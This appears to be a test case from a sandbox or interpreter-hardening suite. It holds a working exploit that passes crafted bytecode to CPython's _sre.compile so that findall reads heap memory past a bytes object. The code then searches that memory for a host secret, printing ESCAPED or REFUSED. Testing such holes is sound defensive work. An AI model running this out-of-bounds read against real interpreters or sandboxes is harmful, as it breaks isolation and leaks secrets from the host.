"""A pattern's code leads out of the text and the memory beside it is read

Technique: _sre.compile does not check the skip of a literal prefix (the 7th number of INFO); findall takes the
  slice up to there from bytes without looking at their length
Versions: 3.11 3.12 3.13
Origin: own idea
Expected: RuntimeError
Harness: host
"""

try:
    import _sre
    import re
    from re import _constants

    info, literal, success = int(_constants.INFO), int(_constants.LITERAL), int(_constants.SUCCESS)
    wanted = re.compile(rb"host-secret-[0-9a-z]+:[a-z ]+")
    texts = [b"\xaa" + bytes(16 * (number % 16) + 7) for number in range(100000)]
    at = {id(text) + 32: text for text in texts}
    places = sorted(at)
    hosts = sorted(
        map(
            id,
            (
                host_function,
                host_ref,
                host_instance,
                host_exception,
                host_generator,
                host_method,
                host_coroutine,
                host_wrapped,
                host_instance.__dict__,
            ),
        )
    )
    pairs = []
    for target in hosts:
        below = [place for place in places if place < target]
        if below:
            pairs.append((target - below[-1], below[-1]))
    loot, memory = None, b""
    for distance, place in sorted(pairs):
        # a prefix of one literal, and nothing but a literal (3): the match ends at `skip`
        code = [info, 8, 3, 1, 1, 1, distance + 2000, 0xAA, 0, literal, 0xAA, success]
        memory = _sre.compile(b"x", 0, code, 0, {}, ()).findall(at[place])[0]
        found = wanted.search(memory)
        if found is not None:
            loot = found.group().decode()
            break
    if loot is None:
        raise LookupError(f"{len(memory)} bytes read beside the text; no secret among them")
except BaseException as error:
    print(f"REFUSED: {type(error).__name__}: {error}")
else:
    print(f"ESCAPED: {loot!r:.120}")
